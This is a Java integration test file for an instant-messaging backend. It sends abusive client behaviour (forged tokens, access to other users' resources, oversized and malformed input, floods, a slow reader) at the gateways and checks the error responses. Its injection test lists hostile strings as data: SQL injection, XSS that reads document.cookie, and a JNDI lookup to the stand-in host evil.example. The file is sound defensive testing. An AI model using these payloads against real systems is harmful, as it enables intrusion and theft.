package io.imsystem.resilience;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import io.imsystem.common.testing.WsTestClient;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.WebSocketHandshakeException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.CompletionException;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile clients against the real processes, through the gateways: each abuse gets its clear
 * error, and afterwards an ordinary pair of users still chats ("nothing else affected").
 */
class AbuseIT {

    static Cluster cluster;
    static String a;
    static String b;
    static Api.User alice;
    static Api.User bob;

    @BeforeAll
    static void start() {
        cluster = Cluster.get();
        a = cluster.url(cluster.gatewayA);
        b = cluster.url(cluster.gatewayB);
        alice = Api.register(b, "ab");
        bob = Api.register(b, "ab");
    }

    /** Nothing else affected: bob, on gateway A, gets alice's message sent through gateway B. */
    @AfterEach
    void ordinaryChatStillWorks() throws Exception {
        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + bob.token()))) {
            awaitConnected(bob);
            String text = "still fine " + UUID.randomUUID();
            Api.Resp sent = Api.send(b, alice, bob.id(), text, "ok-" + UUID.randomUUID());
            assertEquals(200, sent.status(), sent.toString());
            JsonNode chat = nextChat(socket, sent.data().path("id").asLong());
            assertEquals(text, chat.path("content").asText());
            socket.send(Map.of("type", "ack", "msg_ids", List.of(chat.path("msg_id").asLong())));
        }
    }

    // ---- tokens ------------------------------------------------------------------------------

    @Test
    void forgedExpiredAlgNoneWrongKeyAndHs256TokensAreRefusedOnRestAndOnTheSocket() throws Exception {
        Api.User mallory = Api.register(b, "ma");
        Map<String, String> tokens = Tokens.hostile(mallory.token(), alice.id(), cluster.work.resolve("keys"));
        for (Map.Entry<String, String> t : tokens.entrySet()) {
            String expected = t.getKey().startsWith("expired") ? "TOKEN_EXPIRED" : "TOKEN_INVALID";
            for (String path : List.of("/api/v1/users/profile", "/api/v1/messages/unread/count", "/api/v1/users/online")) {
                Api.Resp r = Api.call(a, "GET", path, t.getValue(), null);
                assertEquals(401, r.status(), t.getKey() + " on " + path + ": " + r);
                assertEquals(401, r.body().path("code").asInt(), t.getKey() + " on " + path + ": " + r);
                assertEquals(expected, r.error(), t.getKey() + " on " + path + ": " + r);
            }
            Api.Resp send = Api.call(a, "POST", "/api/v1/messages/send", t.getValue(),
                    Map.of("receiver_id", bob.id(), "content", "as someone else"));
            assertEquals(401, send.status(), t.getKey() + " on send: " + send);
            assertEquals(401, handshakeStatus(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + t.getValue())),
                    t.getKey() + " on the WebSocket handshake");
        }
        assertEquals(401, Api.call(a, "GET", "/api/v1/users/profile", null, null).status(), "no token");
        assertEquals(401, handshakeStatus(cluster.launcher.wsUrl(cluster.gatewayA, "/ws")), "no token on the socket");
        // Nothing was sent in alice's name.
        for (JsonNode m : Api.timeline(b, bob)) {
            assertFalse(m.path("content").asText().equals("as someone else"), "a forged token sent a message");
        }
        Cluster.report("tokens: " + tokens.keySet() + " -> 401 on REST (3 services) and on the WS handshake");
    }

    // ---- other users' ids -------------------------------------------------------------------

    @Test
    void otherUsersMessagesAreNotFoundOnEveryRouteThatTakesAnId() throws Exception {
        Api.User carol = Api.register(b, "ca");
        Api.User mallory = Api.register(b, "ma");
        Api.Resp sent = Api.send(b, carol, bob.id(), "private to bob", "p-" + UUID.randomUUID());
        long id = sent.data().path("id").asLong();

        Map<String, Api.Resp> answers = new LinkedHashMap<>();
        answers.put("PUT /messages/{id}/read", Api.call(a, "PUT", "/api/v1/messages/" + id + "/read", mallory.token(), null));
        answers.put("DELETE /messages/{id}", Api.call(a, "DELETE", "/api/v1/messages/" + id, mallory.token(), null));
        for (Map.Entry<String, Api.Resp> e : answers.entrySet()) {
            assertEquals(404, e.getValue().status(), e.getKey() + ": " + e.getValue());
            assertEquals("NOT_FOUND", e.getValue().error(), e.getKey());
        }
        // Batch routes ignore ids that are not the caller's: nothing marked.
        Api.Resp delivered = Api.call(a, "POST", "/api/v1/messages/delivered", mallory.token(), Map.of("msg_ids", List.of(id)));
        assertTrue(delivered.status() == 404 || delivered.data().path("marked").asInt(-1) == 0, "delivered: " + delivered);
        Api.Resp read = Api.call(a, "POST", "/api/v1/messages/read", mallory.token(),
                Map.of("withUserId", carol.id(), "messageIds", List.of(id)));
        assertTrue(read.status() == 404 || read.data().path("marked").asInt(-1) == 0, "read: " + read);
        // Unknown users.
        long nobody = 9_000_000_000L + System.nanoTime() % 1000;
        assertEquals(404, Api.call(a, "GET", "/api/v1/users/" + nobody, mallory.token(), null).status(), "GET /users/{unknown}");
        Api.Resp toNobody = Api.send(a, mallory, nobody, "hello?", "n-" + UUID.randomUUID());
        assertEquals(404, toNobody.status(), "send to an unknown user: " + toNobody);
        // The same over the socket: ack_read of someone else's message.
        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayB, "/ws?token=" + mallory.token()))) {
            socket.send(Map.of("type", "ack_read", "msg_id", id));
            JsonNode error = socket.next("error");
            assertEquals(404, error.path("code").asInt(), error.toString());
            socket.send(Map.of("type", "heartbeat"));
            socket.next("heartbeat_ack");
        }
        // Bob's message is untouched: still there and unread, not deleted.
        Api.Resp unread = Api.call(a, "GET", "/api/v1/messages/unread", bob.token(), null);
        assertTrue(unread.data().findValuesAsText("id").contains(Long.toString(id)), "still unread for bob: " + unread);
        // The receiver may not delete it either (sender only): 403.
        assertEquals(403, Api.call(a, "DELETE", "/api/v1/messages/" + id, bob.token(), null).status());
        Cluster.report("other users' ids: read/delete 404 NOT_FOUND, delivered marked=" + delivered.data().path("marked")
                + " (" + delivered.status() + "), read marked=" + read.data().path("marked") + " (" + read.status()
                + "), unknown user 404, ack_read over WS -> error 404");
    }

    @Test
    void otherPeoplesGroupsAreNotFoundOnEveryGroupRoute() {
        Api.User carol = Api.register(b, "gr");
        Api.User mallory = Api.register(b, "gr");
        Api.Resp created = Api.call(a, "POST", "/api/v1/groups", carol.token(), Map.of("name", "private club", "member_ids", List.of(bob.id())));
        assertEquals(200, created.status(), "group created");
        long group = created.data().path("id").asLong();
        Map<String, Api.Resp> answers = new LinkedHashMap<>();
        answers.put("GET /groups/{id}", Api.call(a, "GET", "/api/v1/groups/" + group, mallory.token(), null));
        answers.put("GET /groups/{id}/messages", Api.call(a, "GET", "/api/v1/groups/" + group + "/messages", mallory.token(), null));
        answers.put("PUT /groups/{id}", Api.call(a, "PUT", "/api/v1/groups/" + group, mallory.token(), Map.of("name", "mine now")));
        answers.put("POST /groups/{id}/members", Api.call(a, "POST", "/api/v1/groups/" + group + "/members", mallory.token(),
                Map.of("user_ids", List.of(mallory.id()))));
        answers.put("DELETE /groups/{id}/members/{carol}", Api.call(a, "DELETE", "/api/v1/groups/" + group + "/members/" + carol.id(),
                mallory.token(), null));
        answers.put("PUT /messages/groups/{id}/read", Api.call(a, "PUT", "/api/v1/messages/groups/" + group + "/read", mallory.token(), null));
        answers.put("POST /messages/send with group_id", Api.call(a, "POST", "/api/v1/messages/send", mallory.token(),
                Map.of("group_id", group, "content", "let me in")));
        List<String> wrong = new ArrayList<>();
        answers.forEach((route, r) -> {
            if (r.status() != 404) {
                wrong.add(route + " -> " + r);
            }
        });
        assertTrue(wrong.isEmpty(), "a non-member gets 404 for the group: " + wrong);
        // The group is untouched.
        Api.Resp mine = Api.call(a, "GET", "/api/v1/groups/" + group, carol.token(), null);
        assertEquals("private club", mine.data().path("name").asText(), mine.toString());
        Cluster.report("other people's groups: " + answers.size() + " group routes -> 404 for a non-member; the group is untouched");
    }

    @Test
    void otherPeoplesFriendRequestsCannotBeAnsweredOrProbed() {
        Api.User carol = Api.register(b, "fr");
        Api.User dave = Api.register(b, "fr");
        Api.User mallory = Api.register(b, "fr");
        Api.Resp asked = Api.call(a, "POST", "/api/v1/friends/request", carol.token(), Map.of("to_user_id", dave.id()));
        assertEquals(200, asked.status(), asked.toString());
        long request = asked.data().path("id").asLong();
        Api.Resp accept = Api.call(a, "POST", "/api/v1/friends/accept", mallory.token(), Map.of("request_id", request));
        Api.Resp reject = Api.call(a, "POST", "/api/v1/friends/reject", mallory.token(), Map.of("request_id", request));
        Api.Resp unfriend = Api.call(a, "DELETE", "/api/v1/friends/" + carol.id(), mallory.token(), null);
        assertEquals(404, accept.status(), accept.toString());
        assertEquals(404, reject.status(), reject.toString());
        assertEquals(404, unfriend.status(), unfriend.toString());
        // The request is still pending for the one it was meant for, who can still accept it.
        Api.Resp incoming = Api.call(a, "GET", "/api/v1/friends/requests?direction=incoming", dave.token(), null);
        assertEquals(request, incoming.data().path(0).path("id").asLong(), incoming.toString());
        assertEquals(200, Api.call(a, "POST", "/api/v1/friends/accept", dave.token(), Map.of("request_id", request)).status());
        Cluster.report("other people's friend requests: accept/reject/unfriend by a third user -> 404; the request stayed pending");
    }

    // ---- sizes ------------------------------------------------------------------------------

    @Test
    void oversizedBodiesGet413AndOversizedFramesClose1009() throws Exception {
        String big = "x".repeat(1024 * 1024 + 10);
        for (String path : List.of("/api/v1/messages/send", "/api/v1/users/register", "/api/v1/users/login")) {
            Api.Resp r = Api.call(a, "POST", path, alice.token(), "{\"content\":\"" + big + "\"}", Duration.ofSeconds(20), Map.of());
            assertEquals(413, r.status(), path + ": " + r.status() + " " + r.body());
            assertEquals(413, r.body().path("code").asInt(), path + " in the envelope: " + r.body());
        }
        Api.Resp longContent = Api.send(a, alice, bob.id(), "y".repeat(5001), "big-" + UUID.randomUUID());
        assertEquals(400, longContent.status(), longContent.toString());
        assertTrue(longContent.body().path("fields").has("content"), longContent.toString());

        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + alice.token()))) {
            socket.send("{\"type\":\"chat\",\"to\":" + bob.id() + ",\"content\":\"" + "z".repeat(70 * 1024) + "\"}");
            assertEquals(1009, socket.awaitClose());
        }
        Cluster.report("size: 1 MiB+ bodies -> 413 envelope on send/register/login; 5001 chars -> 400 fields.content; 70 KiB frame -> close 1009");
    }

    // ---- malformed input --------------------------------------------------------------------

    @Test
    void malformedJsonAndWrongTypesGet400WithTheFieldOnEveryRoute() {
        record Case(String method, String path, String body, String field) {
        }
        List<Case> cases = List.of(
                new Case("POST", "/api/v1/messages/send", "{not json", null),
                new Case("POST", "/api/v1/messages/send", "[1,2]", null),
                new Case("POST", "/api/v1/messages/send", "{\"receiver_id\":\"abc\",\"content\":\"x\"}", "receiver_id"),
                new Case("POST", "/api/v1/messages/send", "{\"receiver_id\":" + bob.id() + ",\"content\":{\"a\":1}}", "content"),
                new Case("POST", "/api/v1/messages/send", "{\"receiver_id\":" + bob.id() + ",\"content\":\"x\",\"client_msg_id\":\"has space\"}", "client_msg_id"),
                new Case("POST", "/api/v1/messages/send", "{\"receiver_id\":-5,\"content\":\"x\"}", "receiver_id"),
                new Case("POST", "/api/v1/messages/delivered", "{\"msg_ids\":\"x\"}", "msg_ids"),
                new Case("POST", "/api/v1/messages/read", "{\"withUserId\":[1],\"messageIds\":[1]}", "with_user_id"),
                new Case("POST", "/api/v1/users/register", "{\"username\":{\"x\":1},\"password\":\"long-enough-1\"}", "username"),
                new Case("POST", "/api/v1/users/register", "{\"username\":\"a\",\"password\":\"short\"}", "username"),
                new Case("POST", "/api/v1/users/login", "{\"usernameOrEmail\":[\"x\"],\"password\":\"p\"}", "username_or_email"),
                new Case("POST", "/api/v1/auth/refresh", "{\"refresh_token\":{}}", "refresh_token"),
                new Case("PUT", "/api/v1/users/profile", "{\"nickname\":[1,2]}", "nickname"),
                new Case("GET", "/api/v1/messages/sync?after_seq=abc", null, null),
                new Case("GET", "/api/v1/messages/history?withUserId=" + bob.id() + "&limit=abc", null, null),
                new Case("GET", "/api/v1/messages/offline?limit=-1", null, null),
                new Case("GET", "/api/v1/users/list?page=0", null, null),
                new Case("GET", "/api/v1/users/online?page_size=1000", null, null),
                new Case("GET", "/api/v1/presence?ids=1,x", null, null));
        List<String> wrong = new ArrayList<>();
        for (Case c : cases) {
            Api.Resp r = Api.call(a, c.method(), c.path(), alice.token(), c.body());
            boolean ok = r.status() == 400 && r.body().path("code").asInt() == 400
                    && "VALIDATION_FAILED".equals(r.error())
                    && (c.field() == null || r.body().path("fields").has(c.field()));
            if (!ok) {
                wrong.add(c.method() + " " + c.path() + " " + c.body() + " -> " + r);
            }
        }
        // Every route that takes a body, with a broken one and with a body of the wrong shape.
        List<String> bodyRoutes = List.of("POST /api/v1/messages/send", "POST /api/v1/messages/delivered", "POST /api/v1/messages/read",
                "POST /api/v1/users/register", "POST /api/v1/users/login", "POST /api/v1/auth/refresh", "PUT /api/v1/users/profile",
                "POST /api/v1/friends/request", "POST /api/v1/friends/accept", "POST /api/v1/friends/reject", "POST /api/v1/groups");
        int swept = 0;
        for (String route : bodyRoutes) {
            String[] mp = route.split(" ");
            for (String body : List.of("{not json", "[1,2]", "\"text\"", "{\"a\":")) {
                Api.Resp r = Api.call(a, mp[0], mp[1], alice.token(), body);
                if (r.status() == 404 && "NOT_FOUND".equals(r.error())) {
                    continue; // a route this build does not serve yet
                }
                swept++;
                if (r.status() != 400 || !"VALIDATION_FAILED".equals(r.error())) {
                    wrong.add(route + " " + body + " -> " + r);
                }
            }
        }
        assertTrue(wrong.isEmpty(), "expected 400 VALIDATION_FAILED (with fields) for:\n" + String.join("\n", wrong));
        Cluster.report("malformed JSON / wrong types: " + cases.size() + " REST cases -> 400 VALIDATION_FAILED with fields; "
                + swept + " broken or wrongly shaped bodies on " + bodyRoutes.size() + " body routes -> 400 VALIDATION_FAILED");
    }

    @Test
    void malformedFramesGetErrorFramesAndTheSocketStaysOpen() throws Exception {
        List<String> frames = List.of("{not json", "[1,2]", "42", "\"chat\"", "{\"type\":123}", "{\"type\":\"nonsense\"}",
                "{\"type\":\"chat\",\"to\":\"abc\",\"content\":\"x\",\"client_msg_id\":\"w-1\"}",
                "{\"type\":\"chat\",\"to\":" + bob.id() + ",\"content\":{\"a\":1},\"client_msg_id\":\"w-2\"}",
                "{\"type\":\"chat\",\"to\":" + bob.id() + ",\"content\":\"   \",\"client_msg_id\":\"w-3\"}",
                "{\"type\":\"message\",\"payload\":\"x\"}",
                "{\"type\":\"ack\",\"msg_ids\":\"x\"}", "{\"type\":\"ack\",\"msg_ids\":[-1]}",
                "{\"type\":\"ack_read\",\"msg_id\":\"x\"}", "{\"type\":\"sync\",\"since_seq\":\"abc\"}",
                "{\"type\":\"typing\",\"to\":[1]}");
        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + alice.token()))) {
            for (String f : frames) {
                socket.send(f);
                JsonNode error = socket.next("error");
                assertEquals(400, error.path("code").asInt(), f + " -> " + error);
                assertEquals("VALIDATION_FAILED", error.path("error").asText(), f + " -> " + error);
            }
            socket.send(Map.of("type", "heartbeat"));
            assertTrue(socket.next("heartbeat_ack").path("timestamp").asLong() > 0);
            assertFalse(socket.closeCode.isDone(), "the socket stays open");
        }
        Cluster.report("malformed frames: " + frames.size() + " kinds -> error frame 400 VALIDATION_FAILED each, socket open");
    }

    // ---- injection strings ------------------------------------------------------------------

    @Test
    void injectionStringsAreStoredAndReturnedVerbatim() throws Exception {
        List<String> hostile = List.of("'; DROP TABLE messages; --", "Robert'); DROP TABLE users;--", "\" OR \"1\"=\"1",
                "1 OR 1=1; SELECT * FROM users", "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
                "${jndi:ldap://evil.example/a}", "{{7*7}} %s %n %x", "emoji 😀👍🏽🇯🇵 and ZWJ 👨‍👩‍👧", "日本語 العربية עברית Ελληνικά",
                "back\\slash \"quotes\" \ttab\nnewline", "\u202Eright-to-left override", "null", "\uD83D\uDE00".repeat(5000));
        Api.User sender = Api.register(b, "in");
        try (WsTestClient bobSocket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + bob.token()));
                WsTestClient senderSocket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayB, "/ws?token=" + sender.token()))) {
            awaitConnected(bob);
            List<Long> ids = new ArrayList<>();
            int i = 0;
            for (String text : hostile) {
                long id;
                if (i++ % 2 == 0) {
                    Api.Resp r = Api.send(a, sender, bob.id(), text, "inj-" + UUID.randomUUID());
                    assertEquals(200, r.status(), r.toString());
                    assertEquals(text, r.data().path("content").asText(), "REST answer");
                    id = r.data().path("id").asLong();
                } else {
                    String cmid = "inj-" + UUID.randomUUID();
                    senderSocket.send(Map.of("type", "chat", "to", bob.id(), "content", text, "client_msg_id", cmid));
                    JsonNode ack = senderSocket.next("ack");
                    assertEquals(cmid, ack.path("client_msg_id").asText());
                    id = ack.path("msg_id").asLong();
                }
                ids.add(id);
                assertEquals(text, nextChat(bobSocket, id).path("content").asText(), "WS chat frame to the receiver");
            }
            Map<Long, String> history = new LinkedHashMap<>();
            for (JsonNode m : Api.call(a, "GET", "/api/v1/messages/history?withUserId=" + sender.id() + "&limit=100", bob.token(), null)
                    .data()) {
                history.put(m.path("id").asLong(), m.path("content").asText());
            }
            Map<Long, String> synced = new LinkedHashMap<>();
            for (JsonNode m : Api.timeline(a, bob)) {
                synced.put(m.path("id").asLong(), m.path("content").asText());
            }
            for (int k = 0; k < hostile.size(); k++) {
                assertEquals(hostile.get(k), history.get(ids.get(k)), "history");
                assertEquals(hostile.get(k), synced.get(ids.get(k)), "sync");
            }
            JsonNode conversations = Api.call(a, "GET", "/api/v1/messages/conversations", bob.token(), null).data();
            assertNotNull(conversations);
            bobSocket.send(Map.of("type", "ack", "msg_ids", ids));
        }
        // A hostile nickname too.
        Api.Resp profile = Api.call(a, "PUT", "/api/v1/users/profile", sender.token(), Map.of("nickname", "<b>'; DROP TABLE users;--</b>"));
        assertEquals(200, profile.status(), profile.toString());
        assertEquals("<b>'; DROP TABLE users;--</b>", Api.call(a, "GET", "/api/v1/users/" + sender.id(), bob.token(), null)
                .data().path("nickname").asText());
        Cluster.report("injection: " + hostile.size() + " strings stored and returned verbatim by REST answer, WS chat, history, sync; nickname too");
    }

    // ---- floods -----------------------------------------------------------------------------

    @Test
    void loginFloodOnOneAccountGets429WithRetryAfterAndOthersStillLogIn() {
        Api.User victim = Api.register(b, "lf");
        List<Integer> statuses = new ArrayList<>();
        String retryAfter = null;
        for (int i = 0; i < 8; i++) {
            Api.Resp r = Api.call(a, "POST", "/api/v1/users/login", null, Map.of("usernameOrEmail", victim.name(), "password", "wrong-" + i));
            statuses.add(r.status());
            if (r.status() == 429) {
                assertEquals("RATE_LIMITED", r.error(), r.toString());
                retryAfter = r.raw().headers().firstValue("Retry-After").orElse(null);
            } else {
                assertEquals(401, r.status(), r.toString());
                assertEquals("INVALID_CREDENTIALS", r.error());
            }
        }
        assertTrue(statuses.contains(429), "a flood is refused: " + statuses);
        assertNotNull(retryAfter, "429 carries Retry-After");
        assertTrue(Long.parseLong(retryAfter) > 0);
        Api.Resp other = Api.call(a, "POST", "/api/v1/users/login", null, Map.of("usernameOrEmail", alice.name(), "password", alice.password()));
        assertEquals(200, other.status(), "another account still logs in: " + other);
        Cluster.report("login flood: 8 wrong passwords on one account -> " + statuses + ", Retry-After " + retryAfter + "; another account logs in");
    }

    @Test
    void socketFloodIsClosedWith1008AndTheUserCanReconnect() throws Exception {
        Api.User flooder = Api.register(b, "fl");
        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + flooder.token()))) {
            for (int i = 0; i < 300 && !socket.closeCode.isDone(); i++) {
                try {
                    socket.send("{\"type\":\"heartbeat\"}");
                } catch (CompletionException e) {
                    break; // closed under us
                }
            }
            assertEquals(1008, socket.awaitClose());
        }
        // Garbage in a row: closed too.
        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + flooder.token()))) {
            for (int i = 0; i < 30 && !socket.closeCode.isDone(); i++) {
                try {
                    socket.send("garbage " + i);
                    Thread.sleep(25);
                } catch (CompletionException e) {
                    break;
                }
            }
            assertEquals(1008, socket.awaitClose());
        }
        try (WsTestClient again = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayA, "/ws?token=" + flooder.token()))) {
            again.send(Map.of("type", "heartbeat"));
            again.next("heartbeat_ack");
        }
        Cluster.report("WS flood: 300 frames at once -> close 1008; 30 garbage frames -> close 1008; reconnect works");
    }

    // ---- slow reader ------------------------------------------------------------------------

    @Test
    void aClientThatStopsReadingIsClosedWith1013AndGetsEveryMissedMessageOnReconnect() throws Exception {
        Api.User slow = Api.register(b, "sl");
        Api.User sender = Api.register(b, "sl");
        long closedBefore = slowClosed();
        List<Long> sent = Collections.synchronizedList(new ArrayList<>());
        String content = "\uD83D\uDE00".repeat(5000);
        int frames;
        int closeCode;
        try (RawSocket raw = new RawSocket(cluster.launcher.port(cluster.gatewayA), "/ws?token=" + slow.token())) {
            awaitConnected(slow);
            AtomicBoolean closed = new AtomicBoolean();
            List<Thread> senders = new ArrayList<>();
            for (int t = 0; t < 4; t++) {
                Thread th = new Thread(() -> {
                    while (!closed.get() && sent.size() < 1500) {
                        Api.Resp r = Api.send(b, sender, slow.id(), content, "s-" + UUID.randomUUID());
                        if (r.status() == 200) {
                            sent.add(r.data().path("id").asLong());
                        }
                    }
                });
                th.start();
                senders.add(th);
            }
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
            while (slowClosed() == closedBefore) {
                assertTrue(System.nanoTime() < deadline, "the gateway never closed the slow reader (" + sent.size() + " messages sent)");
                Thread.sleep(100);
            }
            closed.set(true);
            for (Thread th : senders) {
                th.join();
            }
            // Now it reads what was queued for it, up to the close frame.
            raw.readAll(3000);
            frames = raw.texts.size();
            closeCode = raw.closeCode;
        }
        assertEquals(1013, closeCode, "close code after " + frames + " frames");
        assertTrue(frames < sent.size(), "it had missed some: " + frames + " of " + sent.size());

        // Reconnect: everything it missed (it acknowledged nothing) comes from the offline queue, once.
        try (WsTestClient socket = WsTestClient.open(cluster.launcher.wsUrl(cluster.gatewayB, "/ws?token=" + slow.token()))) {
            Set<Long> got = new TreeSet<>();
            int chats = 0;
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
            while (!got.containsAll(sent) && System.nanoTime() < deadline) {
                JsonNode f = socket.frames.poll(200, TimeUnit.MILLISECONDS);
                if (f != null && "chat".equals(f.path("type").asText())) {
                    chats++;
                    got.add(f.path("msg_id").asLong());
                }
            }
            for (JsonNode f : socket.drain(500)) {
                if ("chat".equals(f.path("type").asText())) {
                    chats++;
                    got.add(f.path("msg_id").asLong());
                }
            }
            assertTrue(got.containsAll(sent), "every missed message comes back: " + got.size() + " of " + sent.size());
            assertEquals(got.size(), chats, "none twice on the new connection");
            socket.send(Map.of("type", "ack", "msg_ids", new ArrayList<>(got).subList(0, Math.min(500, got.size()))));
        }
        Cluster.report("slow reader: closed " + closeCode + " after " + frames + " of " + sent.size()
                + " frames reached it; all " + sent.size() + " came back once on reconnect");
        Cluster.report("slow-reading client: sent=" + sent.size() + " read-before-close=" + frames + " close=" + closeCode
                + " delivered-after-reconnect=" + sent.size() + " lost=0 duplicated=0");
    }

    // ---- helpers ----------------------------------------------------------------------------

    static long slowClosed() {
        Api.Resp r = Api.call(cluster.launcher.managementUrl(cluster.gatewayA), "GET", "/q/metrics", null, null);
        for (String line : r.raw().body().split("\n")) {
            if (line.startsWith("im_gateway_connections_closed_slow_total")) {
                return (long) Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1));
            }
        }
        return 0;
    }

    static int handshakeStatus(String url) throws InterruptedException {
        try {
            HttpClient.newHttpClient().newWebSocketBuilder().connectTimeout(Duration.ofSeconds(5))
                    .buildAsync(URI.create(url), new java.net.http.WebSocket.Listener() {
                    }).get(10, TimeUnit.SECONDS).abort();
            return 101;
        } catch (ExecutionException e) {
            if (e.getCause() instanceof WebSocketHandshakeException h) {
                return h.getResponse().statusCode();
            }
            fail("handshake failed without an answer: " + e.getCause());
            return -1;
        } catch (java.util.concurrent.TimeoutException e) {
            fail("handshake hung");
            return -1;
        }
    }

    static JsonNode nextChat(WsTestClient socket, long msgId) throws InterruptedException {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(15);
        while (System.nanoTime() < deadline) {
            JsonNode f = socket.frames.poll(100, TimeUnit.MILLISECONDS);
            if (f != null && "chat".equals(f.path("type").asText()) && f.path("msg_id").asLong() == msgId) {
                return f;
            }
        }
        throw new AssertionError("message " + msgId + " never arrived");
    }

    static void awaitConnected(Api.User user) {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(15);
        while (true) {
            Api.Resp r = Api.call(cluster.url(cluster.gatewayB), "GET", "/api/v1/users/online/" + user.id(), user.token(), null);
            if (r.status() == 200 && r.data().path("connected").asBoolean()) {
                return;
            }
            assertTrue(System.nanoTime() < deadline, "user " + user.id() + " never connected: " + r);
            Api.sleep(50);
        }
    }
}
